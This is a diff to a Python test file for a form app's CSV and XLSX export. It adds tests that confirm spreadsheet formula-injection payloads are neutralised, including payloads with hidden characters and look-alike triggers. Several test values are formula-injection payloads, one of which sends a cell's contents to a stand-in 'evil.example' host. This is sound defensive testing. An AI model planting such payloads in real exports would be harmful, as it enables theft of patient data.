@@ -75,43 +75,119 @@ def test_inbox_export_respects_the_filters_and_spans_forms(staff, form_page, sec
     assert len(booked) == 2 and "Bookedone" in booked[1]
 
 
-def test_xlsx_export_is_text_only_and_neutralised(staff, form_page):
-    make_submission(form_page, first_name='=HYPERLINK("http://evil")', last_name="@SUM(A1)", city="Zürich")
+def read_xlsx(raw):
+    sheet = load_workbook(io.BytesIO(raw), read_only=False).active
+    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_xlsx_cells_are_text_exactly_as_stored_never_formulas(staff, form_page):
+    make_submission(
+        form_page,
+        first_name='=HYPERLINK("http://evil")',
+        last_name="@SUM(A1)",
+        city="Zürich",
+        state="0042",
+        phone="+551155550101",
+    )
     raw = download(staff, reverse(INDEX), {"export": "xlsx"})
 
-    sheet = load_workbook(io.BytesIO(raw), read_only=False).active
-    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
-    header, row = rows[0], rows[1]
-    values = dict(zip(header, row, strict=False))
-    assert values["First name"] == '\'=HYPERLINK("http://evil")'
-    assert values["Last name"] == "'@SUM(A1)"
+    sheet, rows = read_xlsx(raw)
+    values = dict(zip(rows[0], rows[1], strict=False))
+    # A text cell is never evaluated: no apostrophe is needed, and none is shown.
+    assert values["First name"] == '=HYPERLINK("http://evil")'
+    assert values["Last name"] == "@SUM(A1)"
     assert values["City"] == "Zürich"
-    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
+    assert values["State"] == "0042"  # text, so the leading zeros stay
+    assert values["Phone"] == "+55 11 5555-0101"  # formatted for people, + kept
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in cells)
 
 
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+def test_phone_numbers_are_exported_as_people_write_them(staff, form_page, settings):
+    make_submission(form_page, first_name="Abroad", phone="+551155550101")
+    make_submission(form_page, first_name="Local", phone="+12175550199")
+    make_submission(form_page, first_name="Odd", phone="02175550199")
+
+    header, *rows = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
+    phones = {row[header.index("First name")]: row[header.index("Phone")] for row in rows}
+    # The clinic's own region (US by default) in national format, others international;
+    # in the CSV a leading + is a formula trigger, so it keeps its guard.
+    assert phones == {"Abroad": "'+55 11 5555-0101", "Local": "(217) 555-0199", "Odd": "021 755 501 99"}
+
+    settings.LEAD_FORMS_PHONE_REGION = "BR"
+    header, *rows = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
+    phones = {row[header.index("First name")]: row[header.index("Phone")] for row in rows}
+    assert phones["Abroad"] == "(11) 5555-0101" and phones["Local"] == "'+1 217-555-0199"
+
+
+# Characters that hide a formula from a guard that looks only at the first one.
+HIDING = (
+    [chr(code) for code in range(0x00, 0x20)]
+    + ["\x7f", "\x85", "\x9b", " ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200c", "\u200d"]
+    + ["\u2060", "\ufeff", "\u202e", "\u0301", "\ue000"]
+)
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1;"Click")', "+1+1", "-2+3", "@SUM(1;2)", "=1+1")
+LOOK_ALIKES = {
+    "=": ("\uff1d", "\ufe66", "\u207c", "\u208c"),
+    "+": ("\uff0b", "\ufe62"),
+    "-": ("\uff0d", "\ufe63"),
+    "@": ("\uff20", "\ufe6b"),
+}
 # PostgreSQL's jsonb cannot hold NUL, and lone surrogates are not text; everything else goes.
 patient_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
 
 
+# A formula, its trigger sometimes swapped for a look-alike.
+formulas = st.sampled_from(FORMULAS).flatmap(
+    lambda f: st.sampled_from((f[0], *LOOK_ALIKES[f[0]])).map(lambda t: t + f[1:])
+)
+
+
+attack = st.tuples(
+    st.text(alphabet=st.sampled_from([c for c in HIDING if c != "\x00"]), max_size=6)
+    | st.text(max_size=3).filter(lambda s: "\x00" not in s),
+    formulas,
+).map("".join)
+
+
+def spreadsheet_could_run(cell):
+    """An independent oracle: strip what a spreadsheet may skip, fold look-alikes, look for a trigger."""
+    import unicodedata
+
+    rest = cell
+    while rest and (
+        rest[0].isspace() or unicodedata.category(rest[0]) in {"Cc", "Cf", "Co", "Cn", "Zs", "Mn", "Me"}
+    ):
+        rest = rest[1:]
+    return unicodedata.normalize("NFKC", rest[:1])[:1] in {"=", "+", "-", "@"}
+
+
 @hypothesis_settings(
-    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
-@given(
-    value=st.one_of(
-        patient_text, st.sampled_from(TRIGGERS).flatmap(lambda t: patient_text.map(lambda s: t + s))
-    )
-)
-def test_every_cell_is_the_value_or_the_value_behind_one_apostrophe(form_page, value):
+@given(value=st.one_of(attack, patient_text))
+def test_no_value_ever_becomes_a_formula_in_csv_or_xlsx(form_page, value):
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
     submission = AppointmentSubmission.objects.create(page=form_page, form_data={"first_name": value})
     try:
+        queryset = AppointmentSubmission.objects.filter(pk=submission.pk)
         columns = export.export_columns([form_page], with_page=False)
-        rows = read_csv(
-            b"".join(export.csv_chunks(AppointmentSubmission.objects.filter(pk=submission.pk), columns))
-        )
-        cell = rows[1][[column.label for column in columns].index("First name")]
-        expected = "'" + value if value.startswith(TRIGGERS) else value
-        assert cell == expected
+        position = [column.label for column in columns].index("First name")
+
+        cell = read_csv(b"".join(export.csv_chunks(queryset, columns)))[1][position]
+        if spreadsheet_could_run(value):
+            assert cell == "'" + value  # neutralised, and otherwise the value as stored
+        else:
+            assert cell == value
+
+        buffer = io.BytesIO()
+        export.write_xlsx(queryset, columns, buffer)
+        sheet, rows = read_xlsx(buffer.getvalue())
+        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+        # XML cannot carry these controls, and reads every line break as \n.
+        stored = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")
+        assert (rows[1][position] or "") == stored
     finally:
         submission.delete()
 
@@ -152,3 +228,19 @@ def test_too_large_xlsx_is_refused_with_a_way_forward(staff, form_page, settings
         assert "3 requests are too many for an XLSX download here: download CSV" in html
         assert response.redirect_chain[-1][0].endswith("?status=new")
     assert len(read_csv(download(staff, reverse(INDEX), {"export": "csv"}))) == 4
+
+
+def test_control_characters_are_removed_when_a_request_is_received(csrf_client, form_page, client_ip):
+    from tests.lead_forms.conftest import VALID_DATA, post_form
+
+    data = {
+        **VALID_DATA,
+        "first_name": '\x01\x1b=HYPERLINK("http://evil.example";"Click")',
+        "your_comments": "First line\r\nsecond\tline\x07\x9b",
+    }
+    response = post_form(csrf_client, form_page, client_ip, data)
+
+    assert response.status_code in (200, 303)
+    stored = AppointmentSubmission.objects.get().form_data
+    assert stored["first_name"] == '=HYPERLINK("http://evil.example";"Click")'
+    assert stored["your_comments"] == "First line\nsecond line"
